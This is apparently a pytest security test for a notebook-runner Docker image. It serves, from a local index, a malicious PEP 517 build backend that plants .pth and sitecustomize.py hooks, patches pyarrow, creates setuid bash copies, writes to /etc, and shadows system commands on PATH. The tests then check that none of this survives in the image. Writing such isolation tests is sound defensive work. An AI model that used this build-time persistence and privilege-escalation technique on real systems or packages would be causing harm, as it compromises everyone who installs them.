"""A requirement's build runs its own code, as root, while the image is built (issue 16): a source
distribution's build backend, served from a loopback index, tries to reach the runner (a .pth file in the
runner's environment and the shared pyarrow, a sitecustomize in the base Python, a setuid shell, a file in
/etc) and still builds its wheel. None of it reaches the image but /opt/venv, and the runner is unaffected."""

from __future__ import annotations

import functools
import hashlib
import io
import subprocess
import tarfile
import textwrap
import threading
from collections.abc import Iterator
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from support import (
    NOTEBOOK_UID,
    SAMPLE_DATE,
    SAMPLE_LAKE,
    build_model,
    copy_repository,
    docker_run,
    writable_dir,
)

pytestmark = pytest.mark.docker

MARK = "PWNED-BY-A-REQUIREMENT"
BACKEND = textwrap.dedent(f'''
    """A PEP 517 build backend that attacks the image it is built in, then builds a plain wheel."""
    import base64, glob, hashlib, os, shutil, stat, zipfile

    def attack():
        line = "import os; os.write(2, b'{MARK}\\\\n')\\n"
        for site in glob.glob("/opt/notebook-runner/venv/lib/python3*/site-packages") + glob.glob(
                "/usr/lib/python3*") + glob.glob("/usr/local/lib/python3*"):
            for name in ("evil.pth", "sitecustomize.py"):
                try:
                    with open(os.path.join(site, name), "w") as f:
                        f.write(line)
                except OSError:
                    pass
        for init in glob.glob("/opt/notebook-runner/*/pyarrow/__init__.py") + glob.glob(
                "/opt/notebook-runner/venv/lib/python3*/site-packages/pyarrow/__init__.py"):
            with open(init, "a") as f:  # in place: a hard link carries it to every copy
                f.write("\\n" + line)
        for shell in ("/opt/venv/bin/evil-shell", "/usr/local/bin/evil-shell"):
            os.makedirs(os.path.dirname(shell), exist_ok=True)
            shutil.copy("/bin/bash", shell)
            os.chmod(shell, 0o4755)
        with open("/etc/evil-requirement", "w") as f:
            f.write("{MARK}")

    def get_requires_for_build_wheel(config_settings=None):
        return []

    def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
        attack()
        name = "evil_backend-1.0-py3-none-any.whl"
        # Programs on the image's PATH before the system's (/opt/venv/bin comes first): the image's last
        # build step and its entrypoint run as root, and a bare `find`, `id` or `env bash` would run these.
        program = (
            b"#!/bin/sh\\necho {MARK} uid=$(/usr/bin/id -u) >&2\\n"
            b"[ $(/usr/bin/id -u) = 0 ] && echo {MARK} >/etc/evil-path-program\\n"
            b"exec /usr/bin/$(basename $0) \\"$@\\"\\n"
        )
        files = {{
            f"evil_backend-1.0.data/scripts/{{name}}": program
            for name in ("bash", "env", "id", "awk", "setpriv", "dirname", "sh", "find", "chmod", "rm")
        }}
        files |= {{
            "evil_backend.py": b"BUILT = True\\n",
            "evil_backend-1.0.dist-info/METADATA": (
                b"Metadata-Version: 2.1\\nName: evil-backend\\nVersion: 1.0\\n"
            ),
            "evil_backend-1.0.dist-info/WHEEL": (
                b"Wheel-Version: 1.0\\nGenerator: evil\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n"
            ),
        }}
        record = []
        with zipfile.ZipFile(os.path.join(wheel_directory, name), "w") as wheel:
            for path, data in files.items():
                entry = zipfile.ZipInfo(path)
                mode = 0o100755 if "/scripts/" in path else 0o100644  # a regular file; the scripts executable
                entry.external_attr = mode << 16
                wheel.writestr(entry, data)
                digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
                record.append(f"{{path}},sha256={{digest}},{{len(data)}}")
            record.append("evil_backend-1.0.dist-info/RECORD,,")
            wheel.writestr("evil_backend-1.0.dist-info/RECORD", "\\n".join(record) + "\\n")
        return name
''')
PYPROJECT = """
[build-system]
requires = []
build-backend = "backend"
backend-path = ["."]

[project]
name = "evil-backend"
version = "1.0"
"""


def sdist() -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
        for name, text in (("pyproject.toml", PYPROJECT), ("backend.py", BACKEND), ("PKG-INFO", "")):
            data = text.encode()
            info = tarfile.TarInfo(f"evil_backend-1.0/{name}")
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


@pytest.fixture(scope="module")
def index(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """A package index on loopback (PEP 503's simple layout) serving the source distribution."""
    root = tmp_path_factory.mktemp("index")
    project = root / "simple" / "evil-backend"
    project.mkdir(parents=True)
    data = sdist()
    (project / "evil_backend-1.0.tar.gz").write_bytes(data)
    digest = hashlib.sha256(data).hexdigest()
    (project / "index.html").write_text(
        f'<a href="evil_backend-1.0.tar.gz#sha256={digest}">evil_backend-1.0.tar.gz</a>\n'
    )
    handler = functools.partial(SimpleHTTPRequestHandler, directory=str(root))
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}/simple/"
    server.shutdown()


@pytest.fixture(scope="module")
def built(platform_runner: str, index: str, tmp_path_factory: pytest.TempPathFactory) -> str:
    context = copy_repository(tmp_path_factory.mktemp("evil-model"))
    digest = hashlib.sha256(sdist()).hexdigest()  # in the file, so a changed backend is never a cached layer
    (context / "requirements.txt").write_text(
        f"# evil-backend {digest}\n--index-url {index}\n--trusted-host 127.0.0.1\npyarrow==26.0.1\n"
        "evil-backend==1.0\n"
    )
    tag = "notebook-runner:evil-requirement"
    return build_model(context, tag, platform_runner, options=("--network", "host"))


def in_image(image: str, script: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        ["docker", "run", "--rm", "--entrypoint", "/bin/sh", image, "-c", script], capture_output=True,
        text=True, check=False,
    )  # fmt: skip


def test_the_requirement_is_installed_in_the_notebooks_environment_and_ran_its_build(built: str) -> None:
    done = in_image(built, "/opt/venv/bin/python -c 'import evil_backend; print(evil_backend.BUILT)'")

    assert done.stdout.strip() == "True", done.stderr


def test_nothing_its_build_wrote_outside_opt_venv_is_in_the_image(built: str) -> None:
    done = in_image(
        built,
        "ls /opt/notebook-runner/venv/lib/python3*/site-packages/evil.pth "
        "/usr/local/bin/evil-shell /etc/evil-requirement /etc/evil-path-program 2>/dev/null; "
        f"grep -rl {MARK} /opt/notebook-runner /usr/lib/python3* 2>/dev/null; "
        "find / -xdev -perm /6000 -type f",
    )

    assert done.stdout == ""


def test_the_runner_is_unaffected_by_what_a_requirement_ran_while_it_built(
    built: str, tmp_path: Path
) -> None:
    out = writable_dir(tmp_path / "out")
    env = {"DATA_URI": "/data/lake", "OUTPUT_URI": "/output", "RUN_DATE": SAMPLE_DATE}

    run = docker_run(built, env, {SAMPLE_LAKE: "/data/lake:ro", out: "/output"}, extra=("--read-only",))

    assert run.code == 0, run.stderr[-3000:]
    # Its .pth and sitecustomize run nowhere; its programs on PATH run, if ever, as the notebook's user only
    # (the entrypoint, as root, and the runner use the image's own).
    ran = [line for line in run.stderr.splitlines() if MARK in line]
    assert [line for line in ran if not line.endswith(f"uid={NOTEBOOK_UID}")] == []
